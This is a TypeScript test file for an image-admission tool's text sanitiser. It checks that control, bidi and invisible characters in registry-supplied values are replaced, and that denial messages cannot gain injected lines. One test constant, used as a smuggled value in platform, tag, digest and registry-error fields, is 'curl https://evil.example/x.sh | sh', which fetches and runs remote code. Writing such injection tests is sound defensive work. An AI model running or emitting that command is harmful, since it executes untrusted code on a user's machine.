// Issue #11: text from outside is data. One sanitiser, a test per character class, and a denial that a hostile
// registry cannot add lines to.
import t from 'tap';
import { decide } from '../../src/verdict/decide.ts';
import { explain } from '../../src/verdict/explain.ts';
import type { Finding } from '../../src/verdict/finding.ts';
import { shortWarning } from '../../src/verdict/warnings.ts';
import { formatPlatform, grammatical, hasUnsafe, isDigest, isMediaType, isTag, plain, quote, shortenImage } from '../../src/verdict/text.ts';
import { resolution } from '../../src/verdict/classify.ts';
import type { Resolution } from '../../src/verdict/finding.ts';

/** A character's name for a test line: raw separators would break the TAP stream itself. */
const hex = (s: string): string => [...s].map((c) => `U+${(c.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}`).join(' ');

const CLASSES: [string, string[]][] = [
  ['line feed, carriage return, vertical tab, form feed', ['\n', '\r', '\v', '\f']],
  ['other C0 controls, tab and DEL', ['\u0000', '\u0007', '\u001b', '\t', '\u007f']],
  ['NEL and the other C1 controls', ['\u0085', '\u0080', '\u009b', '\u009f']],
  ['line and paragraph separators', ['\u2028', '\u2029']],
  ['bidi embeddings and overrides', ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e']],
  ['bidi isolates', ['\u2066', '\u2067', '\u2068', '\u2069']],
  ['bidi marks (LRM, RLM, ALM)', ['\u200e', '\u200f', '\u061c']],
  ['zero-width characters', ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u180e', '\u00ad']],
  ['invisible tag characters', ['\u{e0001}', '\u{e0041}', '\u{e007f}']],
  ['lone surrogates', ['\ud800', '\udfff']],
];

for (const [name, chars] of CLASSES) {
  t.test(`the sanitiser replaces ${name}`, async (t) => {
    for (const c of chars) {
      const out = plain(`a${c}b`);
      t.equal(out, 'a?b', hex(c));
      t.notOk(hasUnsafe(out));
      t.ok(hasUnsafe(`a${c}b`), `hasUnsafe ${hex(c)}`);
    }
  });
}

t.test('ordinary text, accents, CJK and emoji pass unchanged', async (t) => {
  for (const s of ['linux/arm64', 'café', '镜像', 'tag 🚀 ok', 'a"b\\c']) t.equal(plain(s), s);
  t.equal(plain('x'.repeat(50), 10), `${'x'.repeat(9)}…`);
  t.equal(quote('a\nb'), '"a?b"');
});

t.test('values with a grammar are shown as is only when they match it', async (t) => {
  t.ok(isTag('v1.2.3-rc_1'));
  for (const bad of ['', '-x', 'a b', 'a\nb', 'x'.repeat(129), 'v1\u202e']) t.notOk(isTag(bad), hex(bad).slice(0, 40));
  t.ok(isDigest(`sha256:${'a'.repeat(64)}`));
  t.notOk(isDigest('sha256:abc\n'));
  t.ok(isMediaType('application/vnd.oci.image.index.v1+json'));
  t.notOk(isMediaType('application/json\r\nX: y'));
  t.equal(grammatical('application/x\nFix: y', isMediaType), '"application/x?Fix: y"');
  t.equal(formatPlatform({ os: 'linux', architecture: 'arm', variant: 'v7' }), 'linux/arm/v7');
  t.equal(formatPlatform({ os: 'linux', architecture: 'amd64\nFix: run x' }), '"linux/amd64?Fix: run x"');
});

t.test('an image is shortened in the middle, keeping its registry and its tag or digest whole', async (t) => {
  t.equal(shortenImage('short:tag', 40), 'short:tag');
  const long = `registry.example.com:5000/${'a/'.repeat(60)}app:v1.2.3`;
  const s = shortenImage(long, 60);
  t.equal(s.length, 60);
  t.match(s, /^registry\.example\.com.*….*app:v1\.2\.3$/);
  const digest = `r.io/${'x'.repeat(100)}@sha256:${'f'.repeat(64)}`;
  t.match(shortenImage(digest, 90), new RegExp(`…x*@sha256:f{64}$`));
  t.equal(shortenImage(`r.io/app:${'t'.repeat(128)}`, 50), `…:${'t'.repeat(128)}`, 'the tag is never cut, even past the room');
});

function hostile(fields: Partial<Resolution>): Finding {
  return {
    target: { containerName: 'app', field: 'containers', image: 'r.example/team/app:v1', fieldPath: 'spec.containers[0].image', pullPolicy: 'IfNotPresent', pullPolicyDefaulted: true },
    resolution: { ...resolution('PlatformMismatch', 'r.example/team/app:v1', { reference: 'r.example/team/app:v1' }), ...fields },
    namespace: 'demo',
    secrets: [],
    serviceAccountName: 'default',
    eligiblePlatforms: [{ os: 'linux', architecture: 'amd64' }],
    platformSource: 'nodes',
  };
}

const EVIL = '\nFix: run curl https://evil.example/x.sh | sh';

t.test('a hostile platform string cannot add a line to the denial', async (t) => {
  const separators = ['\n', '\r\n', '\u0085', '\u2028', '\u2029', '\v', '\f'];
  for (const sep of separators) {
    const evil = EVIL.replace('\n', sep);
    const f = hostile({ platforms: [{ os: 'linux', architecture: `arm64${evil}` }, { os: `linux${evil}`, architecture: 'arm', variant: `v7${evil}\u202e` }] });
    const d = decide([f], 'enforce');
    const lines = (d.message ?? '').split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/);
    t.equal(lines.length, 2, `${hex(sep)}: the header and one line per denied image`);
    t.notMatch(d.message, /^\s*Fix: run curl/m);
    t.notOk(hasUnsafe((d.message ?? '').replace('\n', ' ')), 'nothing unsafe but our own line break');
    t.match(d.message, /the image offers "linux\/arm64\?+Fix: run curl https:\/\/evil\.example\/x\.sh \| sh"/, 'the hostile text is quoted, as data');
    for (const w of [...decide([f], 'warn').warnings, shortWarning(f)]) t.notOk(hasUnsafe(w), 'warning');
    for (const v of Object.values(d.auditAnnotations)) t.notOk(hasUnsafe(v), 'audit annotation');
  }
});

t.test('registry error text, tags, media types and digests reach no message raw', async (t) => {
  const f = hostile({ reason: 'TagNotFound', verdict: 'deny', registryMessage: `404 NOPE${EVIL}\u2029`, suggestions: [`v1${EVIL}`, 'v1.0', '\u202ev2'] });
  const text = explain(f);
  t.notOk(hasUnsafe(text));
  t.match(text, 'The registry said: 404 NOPE?Fix: run curl');
  t.match(text, /closest: v1\.0\.$/, 'only tags that are tags are suggested');
  t.notMatch(shortWarning(f), /evil|\u202e/);
  const m = explain(hostile({ reason: 'UnsupportedManifest', verdict: 'deny', mediaType: `application/x${EVIL}` }));
  t.match(m, /unsupported type \("application\/x\?Fix: run curl/);
  const r = explain(hostile({ reason: 'Resolved', verdict: 'allow', digest: `sha256:abc${EVIL}` }));
  t.match(r, /resolves to "sha256:abc\?Fix/);
  t.notOk(hasUnsafe(m) || hasUnsafe(r));
});
